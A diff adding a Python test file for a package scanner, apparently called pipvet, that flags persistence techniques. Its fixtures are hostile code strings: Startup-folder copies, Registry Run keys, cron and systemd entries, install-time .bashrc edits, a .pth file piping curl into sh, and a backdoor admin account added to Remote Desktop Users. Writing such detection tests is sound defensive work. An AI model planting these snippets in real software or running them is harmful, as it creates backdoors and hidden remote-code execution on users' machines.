@@ -1,0 +1,130 @@
+"""Persistence: writing to places that run code later, versus naming them."""
+
+from __future__ import annotations
+
+from rulekit import ids, py, run
+
+from pipvet.analysis.rules import persistence
+from pipvet.models import Severity, Stage
+
+R = persistence.RULES
+
+
+def test_copy_into_startup_folder_at_import_is_critical() -> None:
+    bad = py(
+        "import os, shutil, sys\n"
+        "dst = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows',\n"
+        "                   'Start Menu\\\\Programs\\\\Startup')\n"
+        "shutil.copy(sys.argv[0], dst)\n"
+    )
+    found = run(R, bad)
+    assert found
+    assert found[0].severity is Severity.CRITICAL
+    assert "startup folder" in found[0].message
+
+
+def test_registry_run_key_write() -> None:
+    bad = py(
+        "import winreg\n"
+        "RUN = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n"
+        "k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, RUN, 0, winreg.KEY_SET_VALUE)\n"
+        "winreg.SetValueEx(k, 'updater', 0, winreg.REG_SZ, 'C:\\\\x.exe')\n"
+    )
+    found = run(R, bad)
+    assert found
+    assert found[0].severity is Severity.CRITICAL
+    assert "Run key" in found[0].message
+
+
+def test_crontab_and_systemd() -> None:
+    cron = py("import os\nos.system('(crontab -l; echo \"@reboot python3 /tmp/.x.py\") | crontab -')\n")
+    assert "PV-PERSIST" in ids(run(R, cron))
+    unit = py(
+        "p = '/etc/systemd/system/sysmon.service'\n"
+        "with open(p, 'w') as f:\n"
+        "    f.write('[Service]\\nExecStart=/usr/bin/python3 /opt/x.py\\n')\n"
+    )
+    found = run(R, unit)
+    assert found
+    assert found[0].severity is Severity.CRITICAL
+
+
+def test_shell_rc_append_at_install_versus_completion_helper_at_run_time() -> None:
+    bad = py(
+        "import os\n"
+        "with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n"
+        "    f.write('python3 -c \"import x\"\\n')\n",
+        path="x-1.0/setup.py",
+        stage=Stage.INSTALL,
+    )
+    found = run(R, bad)
+    assert found
+    assert found[0].severity is Severity.HIGH
+    assert found[0].stage is Stage.INSTALL
+    benign = py(
+        "import os\n"
+        "def install_completion(shell):\n"
+        "    rc = os.path.expanduser('~/.bashrc')\n"
+        "    with open(rc, 'a') as f:\n"
+        "        f.write('eval \"$(_TOOL_COMPLETE=bash_source tool)\"\\n')\n"
+    )
+    found = run(R, benign)
+    assert found
+    assert found[0].stage is Stage.RUNTIME
+
+
+def test_pth_written_into_site_packages_versus_mentioning_pth() -> None:
+    bad = py(
+        "import site\n"
+        "path = site.getsitepackages()[0] + '/zz_init.pth'\n"
+        "open(path, 'w').write('import os; os.system(\"curl x | sh\")')\n"
+    )
+    assert "PV-PERSIST" in ids(run(R, bad))
+    benign = py("NAMESPACE_PTH = 'foo-nspkg.pth'\ndef skip(name):\n    return name.endswith('.pth')\n")
+    assert run(R, benign) == []
+
+
+def test_mentions_without_writes_are_weak() -> None:
+    benign = py("DOC = 'shell completion goes in your .zshrc'\nprint(DOC)\n")
+    found = run(R, benign)
+    assert all(f.severity is Severity.LOW for f in found)
+
+
+def test_persistence_inside_an_uncalled_function_is_high() -> None:
+    code = (
+        "import winreg\n"
+        "def install_autostart(exe):\n"
+        "    key = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n"
+        "    k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, key)\n"
+        "    winreg.SetValueEx(k, 'app', 0, winreg.REG_SZ, exe)\n"
+    )
+    found = run(R, py(code))
+    assert found
+    assert found[0].severity is Severity.HIGH
+    assert found[0].stage is Stage.RUNTIME
+
+
+def test_backdoor_account_at_install() -> None:
+    bad = py(
+        "import subprocess\n"
+        "subprocess.check_output('net user /add support P4ssw0rd!', shell=True)\n"
+        "subprocess.check_output('net localgroup \"Remote Desktop Users\" support /add', shell=True)\n",
+        path="x-1.0/setup.py",
+        stage=Stage.INSTALL,
+    )
+    found = run(R, bad)
+    assert any("user account" in f.message for f in found)
+
+
+def test_setup_forcing_a_browser_extension() -> None:
+    bad = py(
+        "import os\n"
+        "ext = os.getenv('APPDATA') + '\\\\Extension'\n"
+        "open(ext + '\\\\manifest.json', 'w+').write('{\"permissions\": [\"clipboardWrite\"]}')\n"
+        "shortcut_args = '--load-extension=' + ext\n",
+        path="x-1.0/setup.py",
+        stage=Stage.INSTALL,
+    )
+    found = run(R, bad)
+    assert found
+    assert found[0].severity is Severity.CRITICAL
